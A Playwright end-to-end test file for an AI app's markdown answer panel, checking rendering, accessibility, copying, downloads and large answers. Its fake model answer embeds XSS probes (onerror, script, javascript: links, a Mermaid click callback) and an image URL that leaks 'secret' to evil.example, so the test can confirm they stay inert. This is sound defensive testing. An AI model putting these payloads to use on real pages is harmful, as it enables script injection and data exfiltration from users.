import axe from 'axe-core';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { readFile } from 'node:fs/promises';
import { startBrowser, watchPage } from './browser.js';
import { chainOfCalls } from './chain-app.js';
import { publishApp, readRun } from './client.js';
import { startStack, type Stack } from './stack.js';

/* What models answer is read as people want it, and whatever they answer, nothing of it runs and nothing is fetched. */

const ANSWER = `# Result

Mass is $m_0$, and *energy* is:

$$
E
= m_0 c^2
$$

| part | share |
| ---- | ----: |
| one  | 40 %  |
| two  | 60 %  |

\`\`\`ts
const whole: string = 'one'; // and two
\`\`\`

\`\`\`mermaid
graph LR
  ask["Ask 你好 <img src=x onerror=alert(7)>"] -->|yes| answer{Answer}
  click ask call alert(1)
  click answer href "javascript:alert(2)"
\`\`\`

<img src=x onerror="alert(3)"><script>alert(4)</script> [press](javascript:alert(5)) $\\href{javascript:alert(6)}{x}$

![chart](https://evil.example/chart.png?talk=secret) [more](https://good.example/)

\`\`\`mermaid
graph LR
  broken[
\`\`\`
`;

let stack: Stack;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let seen: readonly string[];
let appId: string;
/** Requests to anybody but us. */
let strangers: string[];

beforeAll(async () => {
  [stack, browser] = await Promise.all([startStack(), startBrowser()]);
  appId = await publishApp(stack, chainOfCalls(1));
}, 400_000);
afterAll(async () => {
  await browser.close();
  await stack.close();
});

beforeEach(async () => {
  await stack.model.resetCalls();
  context = await browser.newContext({
    baseURL: stack.url,
    locale: 'en-US',
    permissions: ['clipboard-read', 'clipboard-write'],
  });
  page = await context.newPage();
  seen = watchPage(page);
  strangers = [];
  page.on('request', (request) => {
    if (!/^(data|blob):/.test(request.url()) && !request.url().startsWith(stack.url)) strangers.push(request.url());
  });
});
afterEach(() => context.close());

const at = (testId: string) => page.getByTestId(testId);
const runId = () => new URL(page.url()).searchParams.get('run') ?? '';
const succeeded = () => at('panel.state').and(page.locator('[data-state=succeeded]')).waitFor({ timeout: 60_000 });

/** Asks, and waits for the end of the answer, which comes in pieces. */
async function askFor(answer: string, pieces = /[\s\S]{1,9}/g): Promise<string> {
  await stack.model.setRules([{ reply: { text: answer.match(pieces) ?? [], betweenMs: 3 } }]);
  await page.goto(`/apps/${appId}/graph`);
  await at('signIn.email').fill('owner@tenon.local');
  await at('signIn.password').fill('correct horse battery');
  await at('signIn.submit').click();
  await at('panel.message').fill('go');
  await page.keyboard.press('Enter');
  await succeeded();
  return runId();
}

it('B50 B51 shows an answer with code, a table, formulas and a diagram; what is hostile in it is text', async () => {
  await askFor(ANSWER);
  const answer = at('panel.answer');
  await answer.getByRole('heading', { name: 'Result' }).waitFor();
  await answer.getByRole('cell', { name: '60 %' }).waitFor();
  await answer.locator('.hljs-keyword', { hasText: 'const' }).waitFor();
  await answer.locator('.formula.display .katex').waitFor();
  await page.waitForFunction('document.fonts.check("16px KaTeX_Math")');
  const picture = answer.locator('.diagram img');
  await picture.waitFor();
  expect(
    await picture.evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth),
  ).toBeGreaterThan(100);
  await answer.getByText('this diagram could not be drawn').waitFor();
  expect(await answer.locator('pre', { hasText: 'broken[' }).count()).toBe(1);

  await answer.getByText('<img src=x onerror="alert(3)"><script>alert(4)</script> press').waitFor();
  const links = await answer.locator('a').all();
  expect(await Promise.all(links.map((link) => link.getAttribute('href')))).toEqual([
    'https://evil.example/chart.png?talk=secret',
    'https://good.example/',
  ]);
  expect(await answer.locator('img').count()).toBe(1);
  expect(strangers).toEqual([]);
  expect(seen).toEqual([]);
}, 120_000);

it('keeps the rules of accessibility in answers, light and dark', async () => {
  await askFor(ANSWER);
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
    await at('panel.answer')
      .locator(colorScheme === 'dark' ? '.diagram.dark img' : '.diagram:not(.dark) img')
      .waitFor();
    await at('panel.answer').locator('.hljs-keyword').waitFor();
    await page.evaluate(axe.source);
    const { violations } = await page.evaluate<axe.AxeResults>('axe.run("tn-markdown")');
    const serious = violations
      .filter(({ impact }) => impact === 'serious' || impact === 'critical')
      .map(({ id, nodes }) => ({ id, places: nodes.map(({ html }) => html.slice(0, 120)).slice(0, 3) }));
    expect({ colorScheme, serious }).toEqual({ colorScheme, serious: [] });
  }
  expect(seen).toEqual([]);
}, 120_000);

it('gives an answer away as it is written, and asks the same again', async () => {
  const first = await askFor(ANSWER);
  expect((await readRun(stack, first)).answer).toBe(ANSWER);
  const copied = () => page.evaluate<string>('navigator.clipboard.readText()');
  await at('panel.copy').getByRole('button').click();
  expect(await copied()).toBe(ANSWER);
  await at('panel.answer').locator('figure', { hasText: 'whole' }).getByRole('button').click();
  expect(await copied()).toBe("const whole: string = 'one'; // and two");
  await at('panel.retry').click();
  await page.waitForURL((url) => ![null, first].includes(url.searchParams.get('run')));
  await succeeded();
  expect(await page.locator('.query').allTextContents()).toEqual(['go', 'go']);
  expect(await page.locator('tn-run-panel tn-markdown').count()).toBe(2);
  expect(seen).toEqual([]);
}, 120_000);

it('shows the values of a step in the form that fits, and gives them as files', async () => {
  const run = await askFor(ANSWER);
  await page.goto(`/apps/${appId}/runs/${run}?view=steps&step=call1`);
  const value = page.locator('tn-step-detail tn-value-view', { has: at('value.form.markdown') }).first();
  await value.getByRole('cell', { name: '60 %' }).waitFor();
  await value.getByTestId('value.form.json').click();
  expect(await value.getByTestId('value.text').textContent()).toBe(JSON.stringify(ANSWER));
  await value.getByTestId('value.form.markdown').click();
  const [download] = await Promise.all([page.waitForEvent('download'), value.getByTestId('value.download').click()]);
  expect(download.suggestedFilename()).toBe('call1-text.md');
  expect(await readFile(await download.path(), 'utf8')).toBe(ANSWER);
  expect(strangers).toEqual([]);
  expect(seen).toEqual([]);
}, 120_000);

it('shows an answer of five megabytes without standing still, and gives all of it', async () => {
  const long = 'word '.repeat(1_000_000);
  const run = await askFor(long, /[\s\S]{1,100000}/g);
  await at('panel.answer').getByText('The first 200,000 of 5,000,000 characters').waitFor();
  const started = Date.now();
  await page.goto(`/apps/${appId}/runs/${run}?view=steps&step=call1`);
  const value = page.locator('tn-step-detail tn-value-view', { has: page.getByRole('heading', { name: 'text' }) });
  await value.getByTestId('value.fetch').click();
  const shows = async (characters: number) => {
    while ((await value.getByTestId('value.text').textContent())?.length !== characters);
  };
  await shows(20_000);
  await value.getByTestId('value.all').click();
  await shows(200_000);
  expect(Date.now() - started).toBeLessThan(15_000);
  const [download] = await Promise.all([page.waitForEvent('download'), value.getByTestId('value.download').click()]);
  expect((await readFile(await download.path(), 'utf8')).length).toBe(long.length);
  expect(seen).toEqual([]);
}, 180_000);
